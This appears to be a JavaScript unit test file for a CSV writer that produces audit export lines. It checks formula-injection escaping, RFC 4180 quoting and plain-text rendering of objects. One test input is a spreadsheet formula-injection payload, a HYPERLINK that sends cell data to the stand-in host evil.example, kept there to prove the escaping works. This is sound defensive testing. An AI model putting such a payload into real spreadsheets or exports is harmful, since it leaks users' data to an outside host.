import { csvLine } from './csv.js';

describe('audit CSV lines', () => {
  it.each(['=HYPERLINK("http://evil.example/?leak="&B2,"open")', '+1+2', '-2+3', '@SUM(A1:A9)', '\tcmd', '\r=1'])(
    'a cell a spreadsheet would run as a formula is kept as text: %j',
    (value) => {
      const cell = csvLine([value]).replace(/\r\n$/, '');
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
      expect(unquoted).toBe(`'${value}`);
    },
  );

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvLine(['a,b', 'say "hi"', 'two\nlines', 'plain'])).toBe('"a,b","say ""hi""","two\nlines",plain\r\n');
  });

  it('writes objects and lists as readable text, not JSON', () => {
    expect(csvLine([{ documentNumber: '法释〔2017〕7号', clause: '第一条' }, ['e1', 'e2'], undefined, null])).toBe(
      '法释〔2017〕7号 第一条,e1 e2,,\r\n',
    );
  });
});
